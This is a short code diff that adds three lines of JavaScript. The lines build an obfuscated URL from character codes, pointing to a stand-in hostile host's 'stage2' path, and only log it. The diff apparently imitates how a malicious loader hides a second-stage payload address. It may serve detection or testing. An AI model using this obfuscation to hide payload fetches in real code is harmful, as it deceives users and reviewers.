@@ -1,0 +1,3 @@
+var _0x4fa1 = String.fromCharCode(104, 116, 116, 112, 58, 47, 47);
+var _0x4fa2 = _0x4fa1 + 'evil.example' + '.com/stage2';
+console.log(_0x4fa2);
